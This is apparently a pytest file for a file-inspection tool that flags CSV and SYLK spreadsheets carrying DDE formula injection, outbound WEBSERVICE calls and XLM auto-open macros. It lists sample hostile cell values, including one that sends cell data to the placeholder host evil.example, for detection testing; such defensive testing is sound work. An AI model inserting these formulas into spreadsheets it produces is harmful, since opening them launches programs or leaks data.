"""Tables as text: what a spreadsheet program would run or fetch, and nothing in honest tables."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.inspection.content.building import kinds, look
from zoneguard.model.flows import Certainty

SYLK = b'ID;PWXL;N;E\n%s\nC;Y1;X1;K"x"\nE\n'


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|'/C calc'!A0",
        "+cmd|'/C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!D2",
        "=    C    m D                    |        '/        c       c  al  c'   !   A",
        '"=DDE(""cmd"";""/C calc"";""x"")"',
        "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    ],
)
def test_formulas_that_start_a_program(cell: str) -> None:
    for text in (f"名前,{cell}\r\n", f"{cell}\n"):
        for name, data in (("a.csv", text.encode()), ("a.csv", text.encode("cp932")), ("", text.encode("utf-16"))):
            seen = look(data, name, "text/csv")
            assert kinds(seen) == ["dde"], (text, name)
            assert seen.hazards[0].where.startswith("byte ")


def test_formulas_that_fetch() -> None:
    assert kinds(look(b'a\n=WEBSERVICE("http://evil.example/"&A1)\n', "a.csv")) == ["external-relationship"]


@pytest.mark.parametrize(
    "text", ["名前,金額\r\n-5,+3\r\n", "=SUM(A1:A3),=A1|B1\n", '"a | b!",-x\n', "- 項目 | 備考!\n", "a@example.jp,@x\n"]
)
def test_honest_tables(text: str) -> None:
    for data in (text.encode(), text.encode("cp932")):
        seen = look(data, "a.csv", "text/csv")
        assert (seen.hazards, seen.certainty) == ((), Certainty.INSPECTED)


def test_prose_is_no_table() -> None:
    assert kinds(look(b"=cmd|'/C calc'!A0", "a.txt", "text/plain")) == []


def test_macro_sheets_in_sylk_whatever_the_name() -> None:
    macro = SYLK % b'O;E\nNN;NAuto_open;ER101C1\nC;X1;Y101;EEXEC("CALC.EXE")'
    seen = look(macro, "a.csv")
    assert set(kinds(seen)) == {"name-mismatch", "xlm-macro"}
    assert "byte 16" in [h.where for h in seen.hazards]
    assert "xlm-macro" in kinds(look(macro.replace(b"\n", b"\r\n"), "a.xls"))
    assert "dde" in kinds(look(SYLK % b"C;X1;Y1;Ecmd|'/c calc'!A0", "a.csv"))


def test_plain_sylk_has_no_macro() -> None:
    assert "xlm-macro" not in kinds(look(SYLK % b"C;X1;Y2;K1", "a.csv"))


@given(st.text("=+-@cmd|'! ,;\"\nID;PEOCN", max_size=60))
def test_any_text_never_raises(text: str) -> None:
    look(text.encode(), "a.csv")
